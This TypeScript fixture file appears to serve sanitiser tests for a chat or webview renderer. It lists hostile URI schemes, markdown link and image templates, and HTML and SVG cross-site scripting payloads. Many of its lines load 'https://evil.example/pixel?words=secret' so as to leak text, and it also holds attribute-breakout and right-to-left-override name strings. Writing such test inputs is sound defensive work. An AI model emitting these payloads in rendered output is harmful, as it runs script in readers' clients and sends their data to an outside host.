/** What a model, or whoever speaks through it, could write to get at the reader: addresses, markup and names. */
export const uris = [
  ...[
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...[
    '%6Aavascript:alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
  ],
  ...[
    'data:image/svg+xml;base64,PHN2Zy8+',
    'data:image/png;base64,iVBORw0KGgo=',
    'command:workbench.action.quit',
    'CoMmAnD:x',
  ],
  ...[
    'command:endpointChat.removeToken?%5B%5D',
    'vscode://vscode.git/clone?url=x',
    'vscode-webview-resource://x/etc/passwd',
  ],
  ...[
    'vscode-resource:/etc/passwd',
    'file:///etc/passwd',
    'file://host/share',
    '//evil.example/x',
    '\\\\evil.example\\x',
    '/x',
    'x',
  ],
  ...[
    'blob:https://evil.example/1',
    'ws://evil.example',
    'ftp://evil.example/',
    'about:blank',
    'tel:1',
    'sms:1',
    'intent://evil/#I;end',
  ],
  ...[
    'view-source:https://evil.example/1',
    'chrome://settings',
    'devtools://devtools/bundled/x.html',
    'vscode-insiders://x',
    'vscode-remote://ssh+evil/x',
    'ms-msdt:/id',
    'search-ms:query=x',
    'smb://evil.example/x',
    'ssh://evil.example',
    'jar:file:///x',
    'feed:javascript:alert(1)',
    'https:evil.example',
    'http:/evil.example',
  ],
];

export const templates = [
  (uri: string) => `[link](${uri})`,
  (uri: string) => `[link](<${uri}> "title")`,
  (uri: string) => `![image](${uri})`,
  (uri: string) => `[![image](${uri})](${uri})`,
  (uri: string) => `<${uri}>`,
  (uri: string) => `see ${uri} there`,
  (uri: string) => `[link][r] ![image][r]\n\n[r]: ${uri} "title"`,
];

export const fetching = 'https://evil.example/pixel?words=secret';

export const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<img src="${fetching}">`,
  `<iframe src="${fetching}"></iframe><object data="${fetching}"></object><embed src="${fetching}">`,
  `<link rel="stylesheet" href="${fetching}"><style>@import "${fetching}";</style>`,
  `<meta http-equiv="refresh" content="0;url=${fetching}"><base href="${fetching}">`,
  `<form action="${fetching}"><input autofocus onfocus=alert(1)><button>Send</button></form>`,
  `<svg onload=alert(1)><use href="${fetching}"/><image href="${fetching}"/></svg><math><mi xlink:href="${fetching}">`,
  `<video src="${fetching}" autoplay></video><audio src="${fetching}"></audio><picture><source srcset="${fetching}"></picture>`,
  `<a href="javascript:alert(1)">x</a><a href="${fetching}" ping="${fetching}">y</a><details open ontoggle=alert(1)>`,
  '<div style="background:url(https://evil.example/a)" class="failure" id="app" role="alert">x</div>',
  '<p onclick="alert(1)">x\n\n</p><!-- x --><?php x ?><![CDATA[ x ]]><!DOCTYPE html>',
  '`<script>alert(1)</script>`\n\n```html "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | a |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example/t.png) |',
  `![image](${fetching}) ![image][i]\n\n[i]: ${fetching}`,
  `[![badge](${fetching})](${fetching})`,
  '~~~"onmouseover="alert(1)\nx\n~~~',
  '[link](https://example.com "\\" onmouseover=\\"alert(1)")',
  `- [x] <img src="${fetching}">\n1. <b>bold</b>\n> <h1 id=x>heading</h1>`,
];

export const payloads = [...templates.flatMap(template => uris.map(template)), ...markup];

export const names = [
  ...markup.filter(text => !text.includes('\n')),
  '"><b>',
  "' onerror='alert(1)",
  '</article><b>',
  '&lt;b&gt;',
  '{host}',
  '$&',
  '../../<b>.ts',
  'a.ts\u202E</li><script>alert(1)</script>',
  'javascript:alert(1)',
  `x" style="background:url(${fetching})`,
];
